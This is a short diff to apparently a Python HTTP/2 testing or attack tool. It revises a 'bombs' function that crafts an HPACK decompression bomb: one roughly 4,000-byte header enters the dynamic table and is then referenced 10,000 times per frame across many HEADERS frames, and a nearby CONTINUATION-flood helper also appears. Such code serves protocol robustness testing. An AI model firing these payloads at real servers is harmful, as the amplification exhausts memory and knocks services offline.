@@ -69,14 +69,18 @@ def endless_head(http: Http2, piece: bytes, count: int) -> bytes:
     return opening + frame(CONTINUATION, http.newest, piece) * count
 
 
-def bombs(http: Http2) -> bytes:
+def bombs(http: Http2, count: int = 100) -> bytes:
     """RFC 7541 section 7.3: one long field in the table, and heads that name it ten thousand times, a byte each."""
-    begin = http.opening(http.head("GET", "/c/x"))
-    # A literal that enters the table, which holds 4 096 bytes, 32 of which are not its own.
-    long = b"\x40\x01x\x7f" + hpack_number(4_000 - 127) + b"y" * 4_000
-    plant = frame(HEADERS, http.newest + 2, long, END_HEADERS | END_STREAM)
-    bomb = [frame(HEADERS, http.newest + 4 + 2 * n, b"\x82\x86\x84\x41\x01x" + b"\xbf" * 10_000, END_HEADERS | END_STREAM) for n in range(100)]
-    return begin + plant + b"".join(bomb)
+    request = b"\x82\x86\x84\x01\x09localhost"
+    # A literal that enters the table, which holds 4 096 bytes; from then on it is field 62.
+    plant = request + b"\x40\x01x\x7f" + hpack_number(4_000 - 127) + b"y" * 4_000
+    blocks = [plant, *[request + b"\xbe" * 10_000] * count]
+    attack = b""
+    for block in blocks:
+        http.newest += 2
+        http.expect(http.newest)
+        attack += frame(HEADERS, http.newest, block, END_HEADERS | END_STREAM)
+    return attack
 
 
 def hpack_number(value: int) -> bytes:
